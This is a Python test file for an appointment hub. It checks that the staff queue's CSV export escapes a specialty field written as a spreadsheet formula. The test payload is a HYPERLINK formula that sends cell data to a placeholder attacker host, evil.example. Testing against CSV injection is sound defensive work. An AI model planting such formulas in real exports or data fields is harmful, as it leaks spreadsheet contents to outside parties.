"""The queue's CSV export opens in a spreadsheet as data, never as formulas (F7)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from hub.rules.appointments import ActionPolicy
from hub.store.appointments import request_rebook
from hub.vocabulary import CancelMode
from tests.harness import Harness
from tests.staff_harness import set_up_staff

pytestmark = pytest.mark.anyio
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


async def test_a_specialty_that_is_a_formula_is_exported_as_text(hub: Harness) -> None:
    patient = await hub.create_patient()
    appointment = await hub.create_appointment(patient_id=patient, specialty=EVIL)
    policy = ActionPolicy(cutoff=timedelta(hours=24), rebook_limit=2, cancel_mode=CancelMode.REQUEST)
    done = await request_rebook(
        hub.db,
        patient_id=patient,
        appointment_id=appointment,
        reason="Away",
        preferred_times="",
        now=hub.clock.now(),
        policy=policy,
    )
    assert done.done
    await set_up_staff(hub, "root", "admin")
    response = await hub.client.get("/staff/queue.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["specialty"] for r in rows] == ["'" + EVIL]
